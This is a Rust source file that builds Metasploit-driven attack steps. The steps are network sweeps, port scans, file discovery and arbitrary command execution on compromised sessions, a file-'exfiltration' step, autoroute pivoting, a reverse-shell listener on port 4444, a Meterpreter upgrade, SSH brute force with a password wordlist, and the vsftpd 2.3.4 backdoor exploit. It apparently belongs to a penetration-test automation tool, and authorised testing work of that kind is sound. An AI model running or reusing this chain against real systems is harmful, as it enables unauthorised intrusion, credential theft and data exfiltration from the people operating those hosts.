use serde_json::{Map, Value, json};

use crate::{
    templates::{
        error::{TemplateError, invalid_parameter},
        parsers,
        types::{CompletionReport, ModuleFamily, StepTemplate, SuccessSentinels, ToolClass},
    },
    types::{Content, SessionId},
};

pub const LISTENER_PAYLOAD: &str = "python/shell_reverse_tcp";
pub const LISTENER_HOST: &str = "0.0.0.0";
pub const LISTENER_PORT: u16 = 4444;
pub const SSH_DEFAULT_USERNAME: &str = "developer";
pub const SSH_DEFAULT_PASS_FILE: &str = "/usr/share/wordlists/fasttrack.txt";

/// Strategy for one intent: template construction, success predicate and
/// output transform.
pub trait StepBuilder: Send + Sync {
    /// Kebab-case intent label; prefixes every step name.
    fn intent(&self) -> &'static str;

    fn family(&self) -> ModuleFamily;

    fn tool_class(&self) -> ToolClass;

    fn module_arguments(&self) -> Value;

    fn processed_output(&self, output: &str) -> Content;

    fn build_template(&self, step_id: u64) -> StepTemplate {
        let mut arguments = self.module_arguments();
        if let (Some(timeout), Some(map)) = (self.tool_class().timeout(), arguments.as_object_mut())
        {
            map.insert("timeout".to_string(), json!(timeout.as_secs()));
        }
        StepTemplate::new(
            format!("{}-{}", self.intent(), step_id),
            self.family(),
            arguments,
        )
    }

    fn default_sentinels(&self) -> SuccessSentinels {
        self.family().default_sentinels()
    }

    fn is_success(&self, report: &CompletionReport, sentinels: &SuccessSentinels) -> bool {
        sentinels.accepts(report.terminal_state())
    }
}

fn msf_arguments(module_type: &str, module: &str, options: Map<String, Value>) -> Value {
    json!({
        "module_type": module_type,
        "module": module,
        "module_options": options,
    })
}

fn command_arguments(session: SessionId, command: &str) -> Value {
    json!({
        "session_id": session,
        "cmd": command,
    })
}

fn options(pairs: Vec<(&str, Value)>) -> Map<String, Value> {
    pairs
        .into_iter()
        .map(|(key, value)| (key.to_string(), value))
        .collect()
}

/// Parses a session reference handed in as text by a caller.
pub fn parse_session_id(text: &str) -> Result<SessionId, TemplateError> {
    text.trim()
        .parse()
        .map_err(|_| invalid_parameter(format!("session id '{}' is not numeric", text)))
}

#[derive(Debug, Clone)]
pub struct ScanNetwork {
    pub target: String,
    pub session: SessionId,
}

impl StepBuilder for ScanNetwork {
    fn intent(&self) -> &'static str {
        "scan-network"
    }

    fn family(&self) -> ModuleFamily {
        ModuleFamily::Msf
    }

    fn tool_class(&self) -> ToolClass {
        ToolClass::Sweep
    }

    fn module_arguments(&self) -> Value {
        msf_arguments(
            "post",
            "multi/gather/ping_sweep",
            options(vec![
                ("SESSION", json!(self.session)),
                ("RHOSTS", json!(self.target)),
            ]),
        )
    }

    fn processed_output(&self, output: &str) -> Content {
        Content::Hosts(parsers::responsive_hosts(output))
    }
}

#[derive(Debug, Clone)]
pub struct FindServices {
    pub target: String,
    pub ports: String,
}

impl StepBuilder for FindServices {
    fn intent(&self) -> &'static str {
        "find-services"
    }

    fn family(&self) -> ModuleFamily {
        ModuleFamily::Msf
    }

    fn tool_class(&self) -> ToolClass {
        ToolClass::PortScan
    }

    fn module_arguments(&self) -> Value {
        msf_arguments(
            "auxiliary",
            "scanner/portscan/tcp",
            options(vec![
                ("PORTS", json!(self.ports)),
                ("RHOSTS", json!(self.target)),
                ("THREADS", json!(10)),
            ]),
        )
    }

    fn processed_output(&self, output: &str) -> Content {
        Content::Services(parsers::open_ports(output))
    }
}

#[derive(Debug, Clone)]
pub struct FindData {
    pub session: SessionId,
    pub directory: String,
}

impl FindData {
    /// `find` prints one path per line, which is what the listing parser expects.
    pub fn command(&self) -> String {
        let directory = if self.directory.trim().is_empty() {
            "/"
        } else {
            self.directory.trim()
        };
        format!("find {} 2>/dev/null", directory)
    }
}

impl StepBuilder for FindData {
    fn intent(&self) -> &'static str {
        "find-data"
    }

    fn family(&self) -> ModuleFamily {
        ModuleFamily::Command
    }

    fn tool_class(&self) -> ToolClass {
        ToolClass::Command
    }

    fn module_arguments(&self) -> Value {
        command_arguments(self.session, &self.command())
    }

    fn processed_output(&self, output: &str) -> Content {
        Content::Files(parsers::file_listing(output))
    }
}

#[derive(Debug, Clone)]
pub struct ExecuteCommand {
    pub session: SessionId,
    pub command: String,
}

impl StepBuilder for ExecuteCommand {
    fn intent(&self) -> &'static str {
        "execute-command"
    }

    fn family(&self) -> ModuleFamily {
        ModuleFamily::Command
    }

    fn tool_class(&self) -> ToolClass {
        ToolClass::Command
    }

    fn module_arguments(&self) -> Value {
        command_arguments(self.session, &self.command)
    }

    fn processed_output(&self, output: &str) -> Content {
        Content::Text(parsers::trim_single_newline(output))
    }
}

#[derive(Debug, Clone)]
pub struct ExfiltrateData {
    pub session: SessionId,
    pub file: String,
}

impl StepBuilder for ExfiltrateData {
    fn intent(&self) -> &'static str {
        "exfiltrate-data"
    }

    fn family(&self) -> ModuleFamily {
        ModuleFamily::Command
    }

    fn tool_class(&self) -> ToolClass {
        ToolClass::Command
    }

    fn module_arguments(&self) -> Value {
        command_arguments(self.session, &format!("cat {}", self.file))
    }

    fn processed_output(&self, output: &str) -> Content {
        Content::Text(parsers::trim_single_newline(output))
    }
}

#[derive(Debug, Clone)]
pub struct UpdateRouting {
    pub session: SessionId,
}

impl StepBuilder for UpdateRouting {
    fn intent(&self) -> &'static str {
        "update-routing"
    }

    fn family(&self) -> ModuleFamily {
        ModuleFamily::Msf
    }

    fn tool_class(&self) -> ToolClass {
        ToolClass::Command
    }

    fn module_arguments(&self) -> Value {
        msf_arguments(
            "post",
            "multi/manage/autoroute",
            options(vec![
                ("CMD", json!("autoadd")),
                ("SESSION", json!(self.session)),
            ]),
        )
    }

    fn processed_output(&self, output: &str) -> Content {
        Content::Subnets(parsers::routed_subnets(output))
    }
}

#[derive(Debug, Clone, Default)]
pub struct SessionListener;

impl StepBuilder for SessionListener {
    fn intent(&self) -> &'static str {
        "session-listener"
    }

    fn family(&self) -> ModuleFamily {
        ModuleFamily::Metasploit
    }

    fn tool_class(&self) -> ToolClass {
        ToolClass::Listener
    }

    fn module_arguments(&self) -> Value {
        json!({
            "module_name": "multi/handler",
            "datastore": {
                "payload": LISTENER_PAYLOAD,
                "LHOST": LISTENER_HOST,
                "LPORT": LISTENER_PORT,
            },
        })
    }

    fn processed_output(&self, output: &str) -> Content {
        Content::Text(parsers::trim_single_newline(output))
    }
}

#[derive(Debug, Clone)]
pub struct UpgradeSession {
    pub session: SessionId,
    pub lhost: String,
}

impl StepBuilder for UpgradeSession {
    fn intent(&self) -> &'static str {
        "upgrade-session"
    }

    fn family(&self) -> ModuleFamily {
        ModuleFamily::Metasploit
    }

    fn tool_class(&self) -> ToolClass {
        ToolClass::Exploit
    }

    fn module_arguments(&self) -> Value {
        json!({
            "module_name": "multi/manage/shell_to_meterpreter",
            "datastore": {
                "LHOST": self.lhost,
                "SESSION": self.session,
            },
        })
    }

    fn processed_output(&self, output: &str) -> Content {
        Content::Text(parsers::trim_single_newline(output))
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ExploitedService {
    Ssh,
    Ftp,
}

impl ExploitedService {
    pub fn parse(service: &str) -> Result<Self, TemplateError> {
        match service.trim() {
            "ssh" => Ok(Self::Ssh),
            "ftp" => Ok(Self::Ftp),
            other => Err(invalid_parameter(format!(
                "no exploit template for service '{}'",
                other
            ))),
        }
    }

    /// Whether a successful run leaves a fresh remote session behind.
    pub fn opens_session(&self) -> bool {
        matches!(self, Self::Ssh)
    }
}

#[derive(Debug, Clone)]
pub struct ExploitServer {
    pub target: String,
    pub service: ExploitedService,
    pub username: String,
    pub pass_file: String,
}

impl ExploitServer {
    pub fn new(target: impl Into<String>, service: ExploitedService) -> Self {
        Self {
            target: target.into(),
            service,
            username: SSH_DEFAULT_USERNAME.to_string(),
            pass_file: SSH_DEFAULT_PASS_FILE.to_string(),
        }
    }
}

impl StepBuilder for ExploitServer {
    fn intent(&self) -> &'static str {
        "exploit-server"
    }

    fn family(&self) -> ModuleFamily {
        ModuleFamily::Msf
    }

    fn tool_class(&self) -> ToolClass {
        match self.service {
            ExploitedService::Ssh => ToolClass::BruteForce,
            ExploitedService::Ftp => ToolClass::Exploit,
        }
    }

    fn module_arguments(&self) -> Value {
        match self.service {
            ExploitedService::Ssh => msf_arguments(
                "auxiliary",
                "scanner/ssh/ssh_login",
                options(vec![
                    ("RHOSTS", json!(self.target)),
                    ("USERNAME", json!(self.username)),
                    ("PASS_FILE", json!(self.pass_file)),
                    ("STOP_ON_SUCCESS", json!(true)),
                    ("CreateSession", json!(true)),
                ]),
            ),
            ExploitedService::Ftp => msf_arguments(
                "exploit",
                "unix/ftp/vsftpd_234_backdoor",
                options(vec![("RHOSTS", json!(self.target))]),
            ),
        }
    }

    fn processed_output(&self, output: &str) -> Content {
        match self.service {
            ExploitedService::Ssh => Content::Credentials(parsers::login_credentials(output)),
            ExploitedService::Ftp => Content::Text(parsers::trim_single_newline(output)),
        }
    }
}
